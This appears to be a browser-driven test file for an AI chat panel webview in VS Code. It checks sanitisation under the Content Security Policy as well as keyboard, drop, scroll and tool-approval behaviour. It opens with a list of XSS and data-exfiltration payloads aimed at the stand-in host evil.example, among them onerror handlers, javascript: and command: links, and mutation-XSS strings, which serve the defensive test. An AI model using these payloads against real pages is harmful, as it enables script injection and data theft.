/**
 * The chat panel's page as it is built, in Chromium without VS Code: hostile text under the real Content Security Policy with every request
 * counted, and how the page behaves under a person's hands.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ShownCall, ShownRequest } from '../../src/protocol/agent';
import {
  type PanelState,
  type ShownAnswer,
  type ShownMessage,
  type ShownQuestion,
  type ToHost,
  toHost,
} from '../../src/protocol/chat';
import { panelWords } from '../../src/protocol/chatWords';
import { PanelHarness } from '../support/PanelHarness';

/** Rows of the attack list: whatever of it becomes alive asks this host for something, or sets `pwned`. */
const sink = 'evil.example';
const hostile = [
  `![x](https://${sink}/?d=SECRET)`,
  `<img src="https://${sink}/a" onerror="window.pwned=1">`,
  `<svg><image href="https://${sink}/b"/><use href="https://${sink}/c#x"/></svg><svg/onload=window.pwned=1>`,
  `<picture><source srcset="https://${sink}/d"><img src="https://${sink}/e"></picture>`,
  `<video poster="https://${sink}/f" src="https://${sink}/g"></video><audio src="https://${sink}/h"></audio>`,
  `<link rel="stylesheet" href="https://${sink}/i"><link rel="prefetch" href="https://${sink}/j">`,
  `<style>@import "https://${sink}/k"; body{background:url(https://${sink}/l)}</style>`,
  `<div style="background:url(https://${sink}/m)">x</div>`,
  `<iframe src="https://${sink}/n"></iframe><object data="https://${sink}/o"></object><embed src="https://${sink}/p">`,
  `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://${sink}/q"><base href="https://${sink}/">`,
  `<form action="https://${sink}/r"><button>x</button></form><a href="https://${sink}/s" ping="https://${sink}/t">x</a>`,
  '<script>window.pwned=1</script><script src="https://evil.example/u"></script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '[a](javascript:window.pwned=1) [b](command:workbench.action.quit) [c](vscode://x/y) [d](data:text/html,x)',
  '```mermaid\ngraph TD; A-->B; click A href "https://evil.example/v"\n```',
  '```html\n<img src=x onerror=window.pwned=1>\n```',
  '`<img src=x onerror=window.pwned=1>` &lt;img src=x onerror=window.pwned=1&gt;',
].join('\n\n');

const onePixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const words = Object.fromEntries(panelWords.map((word) => [word, word])) as PanelState['words'];

function answer(id: string, text: string, more: Partial<ShownAnswer> = {}): ShownAnswer {
  return {
    ...{
      kind: 'answer',
      id,
      text,
      reasoning: '',
      reasoningSeconds: 0,
      quietSeconds: 0,
      state: 'done',
      notice: '',
      details: '',
    },
    ...{ branch: { ids: [id], index: 0 }, feedback: 'none', serverTools: [], calls: [], checkpoint: 'none' },
    ...more,
  };
}

function question(id: string, text: string, label = 'a.ts'): ShownQuestion {
  const chips = [{ id: 'c', label, tokens: 5, canOpen: true }];
  return { kind: 'question', id, text, chips, notice: '', branch: { ids: [id], index: 0 } };
}

function state(messages: readonly ShownMessage[], more: Partial<PanelState> = {}): PanelState {
  return {
    ...{ conversation: 'c', title: 't', messages: [...messages], older: 0, draft: '', commands: [], history: [] },
    status: {
      ...{ chips: [], offers: [], search: 'none', running: null, notice: '', action: 'none' },
      model: { label: 'glm-4.6', hint: '', sees: true },
      context: { used: 10, total: 100, hint: 'hint' },
    },
    ...{ words, language: 'en' },
    agent: { mode: 'ask', unavailable: '', todo: [], notice: '', request: null },
    ...more,
  };
}

describe('the page of the chat panel', () => {
  let harness: PanelHarness;
  const told: ToHost[] = [];
  const last = <Method extends ToHost['method']>(method: Method) =>
    told.findLast((message): message is Extract<ToHost, { method: Method }> => message.method === method)?.params;

  beforeAll(async () => {
    harness = await PanelHarness.open({
      built: join(import.meta.dirname, '../../dist/webview'),
      onMessage: (message) => void told.push(message),
    });
  });
  afterAll(() => harness?.close());
  beforeEach(async () => {
    told.length = 0;
    await harness.load();
    await expect.poll(() => told[0]?.method, { timeout: 30_000 }).toBe('ready');
  });

  async function show(messages: readonly ShownMessage[], more: Partial<PanelState> = {}): Promise<void> {
    await harness.post({ method: 'state', params: state(messages, more) });
    await harness.painted();
  }

  const pwned = (): Promise<unknown> => harness.page.evaluate(() => (globalThis as { pwned?: unknown }).pwned);

  it('makes nothing of hostile text: whole, in pieces, or out of the history', async () => {
    // From the history: in questions, answers, thoughts, names of files and what tools brought.
    const output = { kind: 'page', label: hostile, text: hostile, url: '', host: '' } as const;
    const tool = { title: hostile, input: hostile, outputs: [output, { ...output, kind: 'log' as const }] };
    await show([
      question('q', hostile, hostile),
      answer('a', hostile, { reasoning: hostile, notice: hostile, details: hostile, serverTools: [tool] }),
      { kind: 'compaction', id: 'k', text: hostile, summary: hostile, isLast: true },
    ]);
    // While it arrives, cut anywhere.
    await show([question('q', 'x'), answer('b', '', { state: 'running' })]);
    for (let at = 0; at < hostile.length; at += 7) {
      await harness.post({ method: 'delta', params: { id: 'b', text: hostile.slice(at, at + 7), reasoning: '' } });
    }
    await harness.post({ method: 'message', params: answer('b', hostile) });
    await harness.painted();
    expect(await pwned()).toBeUndefined();
    expect(harness.requests).toEqual([]);
    // Nothing was even refused: no element that could ask came into being.
    expect(harness.refused).toEqual([]);
    const alive =
      'script:not([nonce]), iframe, object, embed, img, video, audio, form, style:not(:empty), link:not([rel="stylesheet"]), base, meta[http-equiv="refresh"], svg image, a[href]';
    expect(await harness.page.locator(`body :is(${alive})`).count()).toBe(0);
    expect(await harness.page.locator('.code-block[data-language="mermaid"]').first().textContent()).toContain(
      'graph TD',
    );
  });

  it('shows a picture of the web only after the extension sent it', async () => {
    await show([answer('a', '![chart](https://evil.example/x.png)')]);
    await harness.page.locator('.remote-image').click();
    await expect.poll(() => last('loadImage'), { timeout: 30_000 }).toEqual({ url: 'https://evil.example/x.png' });
    expect(harness.requests).toEqual([]);
    await harness.post({ method: 'image', params: { url: 'https://evil.example/x.png', data: onePixel } });
    await harness.page.locator('img.picture').waitFor();
    expect(
      await harness.page.locator('img.picture').evaluate((image) => (image as HTMLImageElement).naturalWidth),
    ).toBe(1);
  });

  it('gives the keyboard to the composer, also when that was asked for before there was one', async () => {
    await harness.post({ method: 'focus', params: { text: null } });
    await show([]);
    await harness.page.keyboard.type('one');
    expect(await harness.page.locator('.composer-text').inputValue()).toBe('one');
  });

  it('offers to connect a model', async () => {
    const { status } = state([]);
    await show([], { status: { ...status, notice: 'Not connected.', action: 'connect' } });
    await harness.page.getByRole('button', { name: 'connect', exact: true }).press('Enter');
    await expect.poll(() => last('connect'), { timeout: 30_000 }).toEqual({});
  });

  it('says whatever it says in the protocol', async () => {
    await show([question('q', 'Hi'), answer('a', '```ts a.ts\nlet a;\n```\n\n[b](src/b.ts#L3)')]);
    const page = harness.page;
    for (const name of ['copy', 'apply', 'insert', 'newFile', 'wrap', 'copyAnswer', 'good', 'regenerate']) {
      await page.locator('.answer').getByRole('button', { name, exact: true }).first().click();
    }
    await page.locator('.reason').fill('It works');
    await page.locator('.reason').press('Enter');
    await page.locator('.file-link').last().click();
    await page.locator('.composer-text').fill('/');
    await page.locator('.composer-text').fill('@x');
    await expect.poll(() => last('openPlace'), { timeout: 30_000 }).toEqual({ path: 'src/b.ts', line: 3 });
    await expect.poll(() => last('mention'), { timeout: 30_000 }).toEqual({ query: 'x' });
    expect(last('useCode')).toMatchObject({ action: 'newFile', answer: 'a', code: 'let a;\n', path: 'a.ts' });
    expect(harness.strange).toEqual([]);
    expect(told.every(({ method }) => method in toHost)).toBe(true);
  });

  it('makes pictures smaller that are pasted, and takes texts', async () => {
    await show([]);
    await harness.page.evaluate(async () => {
      const canvas = new OffscreenCanvas(4000, 1000);
      canvas.getContext('2d')?.fillRect(0, 0, 4000, 500);
      const picture = new File([await canvas.convertToBlob()], 'wide.png', { type: 'image/png' });
      const clipboardData = new DataTransfer();
      clipboardData.items.add(picture);
      clipboardData.items.add(new File(['let a;'], 'a.ts', { type: 'text/plain' }));
      document
        .querySelector('.composer-text')
        ?.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    });
    await expect.poll(() => last('attachText'), { timeout: 30_000 }).toEqual({ name: 'a.ts', text: 'let a;' });
    const attached = last('attachImage');
    const data = attached !== undefined && 'data' in attached ? attached.data : '';
    const size = await harness.page.evaluate(async (address) => {
      const image = new Image();
      image.src = address;
      await image.decode();
      return [image.naturalWidth, image.naturalHeight];
    }, data);
    expect(size).toEqual([1568, 392]);
  });

  describe('takes what is dropped anywhere on it', () => {
    const folder = mkdtempSync(join(tmpdir(), 'tandem-drop-'));
    const file = (name: string, content: string | Uint8Array): string => {
      writeFileSync(join(folder, name), content);
      return join(folder, name);
    };
    afterAll(() => rmSync(folder, { recursive: true }));

    it('pictures made smaller, texts as they are, and says what is neither', async () => {
      await show([question('q', 'x')]);
      const wide = await harness.page.evaluate(() => {
        const canvas = document.createElement('canvas');
        canvas.width = 3_136;
        canvas.height = 100;
        return canvas.toDataURL('image/png').slice('data:image/png;base64,'.length);
      });
      const files = [
        file('宽图.png', Buffer.from(wide, 'base64')),
        file('说明.txt', '你好\n'),
        file('tool.bin', new Uint8Array([1, 0, 2])),
        file('broken.png', 'no picture'),
        file('long.log', 'x'.repeat(400_001)),
      ];
      await harness.drop('.question', { files }, async () => {
        expect(await harness.page.locator('.composer.drop-target').count()).toBe(1);
      });
      await expect
        .poll(() => last('notTaken'), { timeout: 30_000 })
        .toEqual({ names: ['tool.bin', 'broken.png', 'long.log'] });
      expect(last('attachText')).toEqual({ name: '说明.txt', text: '你好\n' });
      const picture = last('attachImage');
      const { name = '', data = '' } = picture !== undefined && 'data' in picture ? picture : {};
      expect(name).toBe('宽图.png');
      const size = await harness.page.evaluate(async (src) => {
        const image = Object.assign(new Image(), { src });
        await image.decode();
        return [image.naturalWidth, image.naturalHeight];
      }, data);
      expect(size).toEqual([1_568, 50]);
      expect(await harness.page.locator('.composer.drop-target').count()).toBe(0);
      // What is asked comes next.
      expect(await harness.page.evaluate(() => document.activeElement?.className)).toBe('composer-text');
    });

    it('files of the editor by their addresses, a link of the web as text', async () => {
      await show([]);
      const uris = ['file:///w/src/a.ts', 'file:///w/%E5%9B%BE.png'];
      await harness.drop('.welcome', { items: [['application/vnd.code.uri-list', uris.join('\r\n')]] });
      await expect.poll(() => last('attachUris'), { timeout: 30_000 }).toEqual({ uris });
      told.length = 0;
      const link = 'https://example.org/a?b=1';
      await harness.drop('.composer-text', {
        items: [
          ['text/uri-list', link],
          ['text/plain', link],
        ],
      });
      await expect.poll(() => harness.page.locator('.composer-text').inputValue(), { timeout: 30_000 }).toBe(link);
      expect(told.filter(({ method }) => method !== 'draft' && method !== 'ready')).toEqual([]);
    });

    it('pictures of the workspace, which the extension read', async () => {
      await show([]);
      const data = onePixel.slice('data:image/png;base64,'.length);
      await harness.post({ method: 'picture', params: { name: 'dot.png', data } });
      await expect.poll(() => last('attachImage'), { timeout: 30_000 }).toMatchObject({ name: 'dot.png' });
      await harness.post({ method: 'picture', params: { name: 'bad.png', data: 'AAAA' } });
      await expect.poll(() => last('notTaken'), { timeout: 30_000 }).toEqual({ names: ['bad.png'] });
    });
  });

  it('understands long addresses behind an @', async () => {
    await show([]);
    const address = `url:https://example.org/${'a'.repeat(300)}`;
    await harness.page.locator('.composer-text').fill(`See @${address}`);
    await expect.poll(() => last('mention'), { timeout: 30_000 }).toEqual({ query: address });
    await harness.post({
      method: 'mentions',
      params: { query: address, items: [{ id: address, label: 'page', detail: '' }] },
    });
    await harness.page.locator('.suggestion').waitFor();
    await harness.page.locator('.composer-text').press('Enter');
    await expect.poll(() => last('attach'), { timeout: 30_000 }).toEqual({ id: address });
  });

  it('offers of an empty answer nothing to copy or judge, but to ask again, and to go on from one that has begun', async () => {
    const names = (): Promise<(string | null)[]> =>
      harness.page
        .locator('.answer .message-footer :is(.plain-button, vscode-button)')
        .evaluateAll((all) => all.filter((one) => one.checkVisibility()).map((one) => one.getAttribute('aria-label')));
    await show([question('q', 'x'), answer('a', '', { state: 'failed', notice: 'No network' })]);
    expect(await names()).toEqual(['regenerate']);
    await harness.page.getByRole('button', { name: 'regenerate' }).click();
    await expect.poll(() => last('regenerate'), { timeout: 30_000 }).toEqual({ id: 'a' });
    await show([question('q', 'x'), answer('a', '', { notice: 'Nothing came' })]);
    expect(await names()).toEqual(['regenerate']);
    await show([question('q', 'x'), answer('a', 'A', { state: 'failed', notice: 'No network' })]);
    expect(await names()).toEqual(['resume', 'copyAnswer', 'regenerate', 'good', 'bad']);
  });

  it('recalls earlier questions with the arrow keys, and comes back to nothing', async () => {
    await show([], { history: ['first', 'second\nline'] });
    const composer = harness.page.locator('.composer-text');
    const press = async (key: string): Promise<string> => {
      await composer.press(key);
      return composer.inputValue();
    };
    expect(await press('ArrowUp')).toBe('second\nline');
    expect(await press('ArrowUp')).toBe('first');
    expect(await press('ArrowUp')).toBe('first');
    expect(await press('ArrowDown')).toBe('second\nline');
    expect(await press('ArrowDown')).toBe('');
    // What was written is no question of before: the keys move the cursor in it.
    await composer.fill('mine');
    expect(await press('ArrowUp')).toBe('mine');
    await composer.press('Shift+Enter');
    expect([await composer.inputValue(), last('send')]).toEqual(['\nmine', undefined]);
  });

  it('makes a picture that goes along large, and small again', async () => {
    const chip = { id: 'p', label: 'p.png', tokens: 1, canOpen: false, picture: onePixel };
    await show([], { status: { ...state([]).status, chips: [chip] } });
    const button = harness.page.locator('.chip-picture');
    const width = (): Promise<number | undefined> => button.boundingBox().then((box) => box?.width);
    const small = (await width()) ?? 0;
    await button.click();
    expect([await button.getAttribute('aria-expanded'), ((await width()) ?? 0) > small]).toEqual(['true', true]);
    await button.click();
    expect([await button.getAttribute('aria-expanded'), await width()]).toEqual(['false', small]);
  });

  it('stays at the end until the person scrolls up, and goes back by a button', async () => {
    const long = Array.from({ length: 60 }, (_, n) => `Paragraph ${n}.`).join('\n\n');
    await show([question('q', 'x'), answer('a', '', { state: 'running' })]);
    const scroller = harness.page.locator('.scroller');
    const distance = (): Promise<number> =>
      scroller.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
    const add = (text: string): Promise<void> =>
      harness.post({ method: 'delta', params: { id: 'a', text, reasoning: '' } });
    await add(long);
    await expect.poll(distance, { timeout: 30_000 }).toBeLessThan(30);
    await scroller.hover();
    await harness.page.mouse.wheel(0, -300);
    await expect.poll(distance, { timeout: 30_000 }).toBeGreaterThan(100);
    const top = await scroller.evaluate((one) => one.scrollTop);
    await add(long);
    await harness.painted();
    expect(await scroller.evaluate((one) => one.scrollTop)).toBe(top);
    await harness.page.locator('.newest').click();
    await expect.poll(distance, { timeout: 30_000 }).toBeLessThan(30);
  });

  it('lays out of a long answer what is in sight, as far apart as the rest, and has all of it to find', async () => {
    const text = Array.from({ length: 90 }, (_, n) => (n % 3 === 0 ? `## Part ${n}` : `Paragraph ${n}.`)).join('\n\n');
    await show([question('q', 'x'), answer('a', text)]);
    const blocks = harness.page.locator('.answer .block');
    const isLaidOut = (index: number): Promise<boolean> =>
      blocks
        .nth(index)
        .evaluate((one) => one.firstElementChild?.checkVisibility({ contentVisibilityAuto: true }) === true);
    await expect.poll(() => isLaidOut(88), { timeout: 30_000 }).toBe(true);
    expect(await isLaidOut(5)).toBe(false);
    /** Pixels between what stands in blocks one after the other. */
    const gaps = (from: number, to: number): Promise<readonly number[]> =>
      blocks.evaluateAll(
        (all, { from, to }) => {
          const boxes = all.slice(from, to).map((one) => one.firstElementChild?.getBoundingClientRect());
          return boxes.slice(1).map((box, index) => Math.round((box?.top ?? 0) - (boxes[index]?.bottom ?? 0)));
        },
        { from, to },
      );
    expect(new Set(await gaps(82, 90))).toEqual(new Set([8]));
    await harness.page.locator('.scroller').press('Home');
    await expect.poll(() => isLaidOut(5), { timeout: 30_000 }).toBe(true);
    expect(new Set(await gaps(0, 8))).toEqual(new Set([8]));
    expect(
      await harness.page.evaluate(() => (window as unknown as { find(text: string): boolean }).find('Paragraph 49')),
    ).toBe(true);
    expect(await harness.page.getByRole('heading', { name: 'Part 48' }).count()).toBe(1);
  });

  it('shows how a cut answer goes on', async () => {
    await show([question('q', 'x'), answer('a', 'One **two', { state: 'stopped' })]);
    await show([question('q', 'x'), answer('a', 'One **two', { state: 'running' })]);
    await harness.post({ method: 'delta', params: { id: 'a', text: ' three** four', reasoning: '' } });
    await expect
      .poll(() => harness.page.locator('.answer .markdown strong').allTextContents(), { timeout: 30_000 })
      .toEqual(['two three']);
    await harness.post({ method: 'message', params: answer('a', 'One **two three** four') });
    await harness.painted();
    expect(await harness.page.locator('.answer .markdown').textContent()).toContain('One two three four');
  });

  it('draws all of a long conversation in order, its end first', async () => {
    const messages = Array.from({ length: 20 }, (_, n) => [
      question(`q${n}`, `Q${n}`),
      answer(`a${n}`, `A${n}`),
    ]).flat();
    await show(messages, { older: 3 });
    await harness.page.locator('[data-id="q0"]').waitFor({ state: 'attached' });
    const ids = await harness.page
      .locator('.message')
      .evaluateAll((all) => all.map((one) => one.getAttribute('data-id')));
    expect(ids).toEqual(messages.map(({ id }) => id));
    await harness.page.getByRole('button', { name: 'older' }).waitFor();
    // Another state in the middle of it loses and doubles nothing.
    await show([], { conversation: 'other' });
    await harness.post({ method: 'state', params: state(messages) });
    await harness.post({ method: 'state', params: state(messages) });
    await harness.page.locator('[data-id="q0"]').waitFor({ state: 'attached' });
    expect(await harness.page.locator('.message').count()).toBe(40);
  });

  it('tells those who cannot see that an answer began and ended, and not each word', async () => {
    await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
      status: { ...state([]).status, running: 'a' },
    });
    expect(await harness.page.locator('[role="log"]').getAttribute('aria-busy')).toBe('true');
    const announcer = harness.page.locator('.conversation > [role="status"]');
    expect(await announcer.textContent()).toBe('answering');
    await harness.post({ method: 'delta', params: { id: 'a', text: 'Hello', reasoning: '' } });
    await harness.painted();
    expect(await announcer.textContent()).toBe('answering');
    await harness.post({ method: 'status', params: state([]).status });
    await harness.painted();
    expect(await announcer.textContent()).toBe('answerDone');
  });

  describe('never loses the keyboard', () => {
    const running = (id: string): Partial<PanelState> => ({ status: { ...state([]).status, running: id } });
    const of = (id: string, ...ids: readonly string[]) => ({ branch: { ids: [...ids], index: ids.indexOf(id) } });
    /** The message that has it, and what its control is called. */
    const place = (): Promise<string> =>
      harness.page.evaluate(() => {
        const { activeElement: one } = document;
        const message = one?.closest<HTMLElement>('[data-id]')?.dataset.id ?? one?.className.split(' ')[0] ?? '';
        return one?.matches('[data-id]') ? message : `${message} ${one?.getAttribute('aria-label') ?? ''}`;
      });
    const press = async (name: string): Promise<void> => {
      await harness.page.getByRole('button', { name, exact: true }).last().focus();
      await harness.page.keyboard.press('Enter');
      await harness.painted();
    };

    it('when an answer is written again, goes on, or another version is shown', async () => {
      await show([question('q', 'x'), answer('a', 'A')]);
      await press('regenerate');
      expect(last('regenerate')).toEqual({ id: 'a' });
      await show([question('q', 'x'), answer('b', '', { state: 'running', ...of('b', 'a', 'b') })], running('b'));
      expect(await place()).toBe('b');
      await harness.post({ method: 'message', params: answer('b', 'B', { state: 'stopped', ...of('b', 'a', 'b') }) });
      await press('previousBranch');
      await show([question('q', 'x'), answer('a', 'A', of('a', 'a', 'b'))]);
      // There is no version before it.
      expect(await place()).toBe('a');
      await press('nextBranch');
      await show([question('q', 'x'), answer('b', 'B', { state: 'stopped', ...of('b', 'a', 'b', 'c') })]);
      expect(await place()).toBe('b nextBranch');
      await press('resume');
      await show([question('q', 'x'), answer('b', 'B', { state: 'running', ...of('b', 'a', 'b', 'c') })], running('b'));
      expect(await place()).toBe('b');
    });

    it('when a question is asked in other words, or a summary is taken back', async () => {
      await show([question('q', 'x'), answer('a', 'A')]);
      await press('edit');
      await harness.page.locator('.edit-area').press('Enter');
      await expect.poll(() => last('edit'), { timeout: 30_000 }).toEqual({ id: 'q', text: 'x' });
      await show([question('q2', 'x'), answer('b', '', { state: 'running' })], running('b'));
      expect(await place()).toBe('q2 edit');
      const summary = { kind: 'compaction', id: 'compaction:k', text: 't', summary: 's', isLast: true } as const;
      await show([question('q2', 'x'), answer('b', 'B'), summary]);
      await press('undoCompaction');
      await show([question('q2', 'x'), answer('b', 'B')]);
      expect(await place()).toBe('b');
    });

    it('when it is stopped, a notice or a request goes, or all is deleted', async () => {
      await show([question('q', 'x'), answer('a', '', { state: 'running' })], running('a'));
      await press('stop');
      await show([question('q', 'x'), answer('a', '', { state: 'stopped' })]);
      expect(await place()).toBe('composer-text ask');
      const full = { ...state([]).status, notice: 'full', action: 'compact' as const };
      await harness.post({ method: 'status', params: full });
      await press('compact');
      await harness.post({ method: 'status', params: state([]).status });
      await harness.painted();
      expect(await place()).toBe('composer-text ask');
      const request: ShownRequest = {
        ...{ kind: 'approval', id: 'r', hash: 'h', title: 'Run?', content: 'ls', size: '', targets: [], parts: [] },
        ...{ reasons: [], choices: [], canRemember: false, more: 0 },
      };
      const { agent } = state([]);
      await harness.post({ method: 'agent', params: { ...agent, request } });
      await harness.page.getByRole('button', { name: 'deny', exact: true }).focus();
      await harness.post({ method: 'agent', params: agent });
      await harness.painted();
      expect(await place()).toBe('composer-text ask');
      await harness.page.getByRole('button', { name: 'regenerate', exact: true }).focus();
      await show([], { conversation: '' });
      expect(await place()).toBe('scroller conversation');
    });

    it('when the button to the newest goes', async () => {
      await show([answer('a', Array.from({ length: 90 }, (_, n) => `Paragraph ${n}.`).join('\n\n'))]);
      await harness.page.locator('.scroller').hover();
      await harness.page.mouse.wheel(0, -600);
      await harness.page.locator('.newest:not([hidden])').waitFor();
      await press('newest');
      await expect.poll(place, { timeout: 30_000 }).toBe('scroller conversation');
    });
  });

  it('tells how an answer ended, and says of a summary that it is one', async () => {
    const announcer = harness.page.locator('.conversation > [role="status"]');
    const { status } = state([]);
    await show([question('q', 'x'), answer('a', 'A', { state: 'running' })], { status: { ...status, running: 'a' } });
    await harness.post({ method: 'message', params: answer('a', 'A', { state: 'stopped', notice: 'Stopped.' }) });
    await harness.post({ method: 'status', params: status });
    await harness.painted();
    expect(await announcer.textContent()).toBe('Stopped.');
    await harness.post({ method: 'status', params: { ...status, running: 'compaction', notice: 'summing up' } });
    await harness.painted();
    expect(await announcer.textContent()).toBe('');
    expect(await harness.page.locator('.composer-notice[role="status"]').textContent()).toBe('summing up');
    await harness.post({ method: 'status', params: status });
    await harness.painted();
    expect(await announcer.textContent()).toBe('');
  });

  it('makes links of symbols that are defined in one place, and asks for names only', async () => {
    const text = 'Call `retryTask()` or `Queue.push`, not `a` or `x = 1`.\n\n```ts\nretryTask();\n```\n';
    await show([question('q', 'x'), answer('a', text, { state: 'running' })]);
    expect(last('findSymbols')).toBeUndefined();
    await harness.post({ method: 'message', params: answer('a', text) });
    await expect.poll(() => last('findSymbols'), { timeout: 30_000 }).toEqual({ names: ['retryTask', 'Queue.push'] });
    const found = [{ name: 'retryTask', path: 'src/retry.ts', line: 7 }];
    await harness.post({ method: 'symbols', params: { found } });
    await harness.painted();
    expect(await harness.page.locator('.answer .file-link').allTextContents()).toEqual(['retryTask()']);
    await harness.page.locator('.answer .file-link').press('Enter');
    await expect.poll(() => last('openPlace'), { timeout: 30_000 }).toEqual({ path: 'src/retry.ts', line: 7 });
    // What is known needs no question.
    await show([question('q', 'x'), answer('a', text), answer('b', 'Again `retryTask`.')]);
    expect(await harness.page.locator('.answer .file-link').count()).toBe(2);
  });

  it('makes links of references once the answer is complete, and tells what is hidden in a question', async () => {
    const text = 'See [docs][1].\n\nMore.\n\n[1]: https://example.org/\n';
    await show([{ ...question('q', 'x'), notice: '3 hidden' }, answer('a', '', { state: 'running' })]);
    await harness.post({ method: 'delta', params: { id: 'a', text, reasoning: '' } });
    await harness.painted();
    expect(await harness.page.locator('.answer .web-link').count()).toBe(0);
    await harness.post({ method: 'message', params: answer('a', text) });
    await harness.painted();
    expect(await harness.page.locator('.answer .block').first().locator('.web-link').textContent()).toContain('docs');
    expect(await harness.page.locator('.answer .block').nth(1).textContent()).toContain('More.');
    expect(await harness.page.locator('.question .notice').textContent()).toBe('3 hidden');
  });

  describe('with tools', () => {
    const call = (change: Partial<ShownCall>): ShownCall => ({
      ...{ id: 'k', at: 0, what: 'Run', where: 'make', state: 'running', input: '{"command":"make"}', output: '' },
      ...change,
    });
    const cardOf = (id: string) => harness.page.locator('.call').nth(id === 'k' ? 0 : 1);
    const tell = async (change: Partial<ShownCall>, ...outputs: readonly string[]): Promise<void> => {
      await harness.post({ method: 'call', params: { answer: 'a', call: call(change) } });
      for (const text of outputs) {
        await harness.post({ method: 'callOutput', params: { answer: 'a', id: change.id ?? 'k', text } });
      }
      await harness.painted();
    };

    it('shows what a command writes while it runs, and folds it away at its end', async () => {
      await show([question('q', 'x'), answer('a', '', { state: 'running' })]);
      await tell({}, 'one\n', 'two\n');
      expect(await cardOf('k').locator('.call-text').last().textContent()).toBe('one\ntwo\n');
      await tell({ state: 'done', output: 'Exit code 0' });
      expect(await cardOf('k').getAttribute('open')).toBeNull();
      await cardOf('k').locator('summary').click();
      expect(await cardOf('k').locator('.call-text').last().textContent()).toBe('Exit code 0');
    });

    it('leaves a card as the person folded or opened it', async () => {
      await show([question('q', 'x'), answer('a', '', { state: 'running' })]);
      await tell({}, 'one\n');
      await cardOf('k').locator('summary').click();
      await tell({}, 'two\n');
      expect(await cardOf('k').getAttribute('open')).toBeNull();
      await cardOf('k').locator('summary').click();
      await tell({ state: 'failed', output: 'Exit code 1' });
      expect(await cardOf('k').locator('.call-text').last().textContent()).toBe('Exit code 1');
    });

    it('lays out of many calls those in sight, as far apart as the rest', async () => {
      const step = (n: number): string => `step ${String(n).padStart(2)}`;
      const text = Array.from({ length: 60 }, (_, n) => step(n)).join('');
      const calls = Array.from({ length: 60 }, (_, n) => call({ id: `c${n}`, at: 7 * (n + 1), state: 'done' }));
      await show([question('q', 'x'), answer('a', text, { calls })]);
      const cards = harness.page.locator('.call');
      const isLaidOut = (index: number): Promise<boolean> =>
        cards.nth(index).evaluate((one) => one.checkVisibility({ contentVisibilityAuto: true }));
      await expect.poll(() => isLaidOut(59), { timeout: 30_000 }).toBe(true);
      expect(await isLaidOut(4)).toBe(false);
      const tops = (): Promise<readonly number[]> =>
        cards.evaluateAll((all) => all.slice(40).map((one) => one.getBoundingClientRect().top));
      const distances = (await tops()).slice(1).map((top, index, all) => Math.round(top - (all[index - 1] ?? 0)));
      expect(new Set(distances.slice(1)).size).toBe(1);
    });

    it('gives what is asked the keyboard when that is wished, and takes an answer by keys alone', async () => {
      // U-04: whatever it is made of, it is text.
      const command = 'make <b>all</b> [x](command:y) `z`';
      const request: ShownRequest = {
        ...{ kind: 'approval', id: 'r', hash: 'h', title: 'Run this?', size: '', targets: ['/w'], choices: [] },
        ...{ content: command, parts: [], reasons: [], canRemember: true, more: 0 },
      };
      await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
        agent: { mode: 'edit', unavailable: '', todo: [], notice: '', request },
      });
      const { page } = harness;
      const focused = (): Promise<string> =>
        page.evaluate(() => {
          const element = document.activeElement;
          return element?.textContent === ''
            ? (element.getAttribute('aria-label') ?? '')
            : (element?.textContent ?? '');
        });
      expect(await page.locator('.request').getByRole('alert').textContent()).toContain('asked');
      await page.locator('.composer-text').focus();
      await harness.post({ method: 'focusRequest', params: {} });
      await harness.painted();
      expect(await page.evaluate(() => document.activeElement?.className)).toBe('request');
      const order: string[] = [];
      for (let step = 0; step < 5; step++) {
        await page.keyboard.press('Tab');
        order.push(await focused());
      }
      expect(await page.locator('.request :is(b, a)').count()).toBe(0);
      expect(order).toEqual([command, 'deny', 'allowOnce', 'allowWindow', 'denyReason']);
      await page.locator('.request .early').first().waitFor({ state: 'detached' });
      for (const [back, kind] of [
        [1, 'window'],
        [2, 'once'],
        [3, 'deny'],
      ] as const) {
        await harness.post({ method: 'focusRequest', params: {} });
        await harness.painted();
        for (let step = 0; step < 5 - back; step++) {
          await page.keyboard.press('Tab');
        }
        await page.keyboard.press('Enter');
        await expect.poll(() => last('answerRequest')).toMatchObject({ id: 'r', hash: 'h', kind });
      }
    });

    it('U-08: takes no key for an answer that was pressed in the composer, whenever it appears', async () => {
      const request: ShownRequest = {
        ...{ kind: 'approval', id: 'r', hash: 'h', title: 'Run this?', size: '', targets: ['/w'], choices: [] },
        ...{ content: 'make', parts: [], reasons: [], canRemember: true, more: 0 },
      };
      await show([question('q', 'x'), answer('a', '', { state: 'running' })]);
      const { page } = harness;
      const composer = page.locator('.composer-text');
      await composer.focus();
      await page.keyboard.type('ye');
      await harness.post({
        method: 'agent',
        params: { mode: 'edit', unavailable: '', todo: [], notice: '', request },
      });
      await page.locator('.request').waitFor();
      const press = async (): Promise<void> => {
        await page.keyboard.type('s y');
        for (const key of ['Enter', 'Space', 'Control+Enter', 'Escape']) {
          await page.keyboard.press(key);
        }
      };
      await press();
      // Long after it could be read as well.
      await page.locator('.request .early').first().waitFor({ state: 'detached' });
      await press();
      expect(told.filter(({ method }) => method === 'answerRequest')).toEqual([]);
      expect(await page.evaluate(() => document.activeElement?.className)).toBe('composer-text');
    });

    it('U-12: tells a screen reader, and shows without colours of its own, all that it asks', async () => {
      const request: ShownRequest = {
        ...{ kind: 'approval', id: 'r', hash: 'h', title: 'Run this?', size: '2 lines', choices: [] },
        ...{ targets: ['/home/me/place'], content: `ls ${' '.repeat(50)}; rm x`, reasons: ['it deletes'] },
        parts: [
          { text: 'ls', note: '', risky: false },
          { text: 'rm x', note: 'deletes files', risky: true },
        ],
